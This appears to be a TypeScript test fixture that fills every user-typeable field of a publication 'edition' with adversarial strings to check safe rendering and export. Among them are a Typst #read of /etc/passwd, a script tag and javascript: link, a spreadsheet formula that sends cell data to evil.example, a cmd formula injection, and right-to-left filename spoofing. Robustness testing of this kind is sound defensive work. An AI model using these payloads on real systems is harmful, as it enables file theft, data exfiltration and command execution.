import type { EditionContent } from '../../src/lib/domain/edition/edition';
import { anEdition } from './an-edition';

/** What somebody may type, paste or send, by what it tries. */
export const HOSTILE_TEXTS: Record<string, string> = {
  'Typst markup':
    '#let x = 1; #panic("x") $a^2$ *b* _c_ @ref <lab> \\ \\u{41} `raw` // c /* d */ = H\n- item\n+ 1 ~ --- [x] {y} #read("/etc/passwd")',
  Markdown:
    '# Title\n**bold** [link](javascript:alert(1)) ![image](https://evil.example/x.png)\n| a | b |\n|---|---|',
  HTML: '<script>alert(1)</script> &amp; &lt; <b>x</b> <!-- c --> ]]> <?xml version="1.0"?> " \'',
  'a formula': '=HYPERLINK("https://evil.example?x="&A1,"click")',
  'a command in a formula': "@SUM(1+1)*cmd|' /C calc'!A0",
  'an escape of Excel': '_x0041_ _x005F_ _x000D_',
  '10,000 characters without a space': 'x'.repeat(10_000),
  '10,000 characters of words': 'many words '.repeat(909),
  'a very long address': `https://${'a/'.repeat(5_000)}`,
  emoji: '😀 👩🏽‍🚒 🇬🇧 1️⃣ ❤️ 👨‍👩‍👧‍👦',
  'right-to-left text': 'مرحبا بكم في المجلس و שלום עולם 123 abc',
  'marks that turn the direction': 'abc\u202egpj.exe\u202c \u2066x\u2069 \u200f',
  'other scripts': '漢字 かな 한국어 বাংলা ਪੰਜਾਬੀ Київ Ελλάδα ไทย',
  'control characters':
    'a\u0000b\u0007c\u001bd\ufeffe\u200bf\u00adg\u2028h\r\ni\u0085j\ud800k\udc00l\uffffm\u{e0001}n\u{10ffff}o',
  'combining marks': 'Z\u0351\u036b\u0343A\u0335\u034bL\u0360G\u033b 😀\u0301 א\u0301 م\u05b0 \u0301\u0302',
  'nothing to be seen': '\u200b\u200d\ufe0f',
  'spaces alone': '   ',
  'private and rare characters': '\ue000\uf8ff\u1680\u2003\u3000\u3164\u180e\ufff9 ∑√ ▲✓☎ ﷺ ⠓⠑'
};

/** Read by programs, or chosen from a list: nobody types these. */
const NOT_TYPED = new Set([
  'kind',
  'slug',
  'month',
  'publishedOn',
  'sha256',
  'wordsSha256',
  'href',
  'strength'
]);

/** An edition in which whatever people can type is this text. */
export function aHostileEdition(text: string): EditionContent {
  const edition = anEdition();
  const one = <Item>(items: readonly Item[]): Item[] => items.slice(0, 1);
  const small: EditionContent = {
    ...edition,
    number: 2,
    correction: { reason: 'x', changes: [{ figure: 'x', was: 'x', is: 'x' }] },
    findings: one(edition.findings),
    figures: one(edition.figures),
    otherFigures: one(edition.otherFigures),
    strengths: one(edition.strengths),
    returns: one(edition.returns),
    services: one(edition.services),
    stories: one(edition.stories),
    commentary: edition.commentary.slice(1),
    caveats: one(edition.caveats),
    method: one(edition.method)
  };
  return typedOver(small, text);
}

/** The same shape, with this in place of every text that somebody may have typed. */
export function typedOver<Value>(value: Value, text: string): Value {
  function walk(each: unknown, key: string): unknown {
    if (typeof each === 'string') return NOT_TYPED.has(key) || each === '*' ? each : text;
    if (Array.isArray(each)) return each.map((item) => walk(item, key));
    if (each === null || typeof each !== 'object') return each;
    return Object.fromEntries(Object.entries(each).map(([name, within]) => [name, walk(within, name)]));
  }
  return walk(value, '') as Value;
}
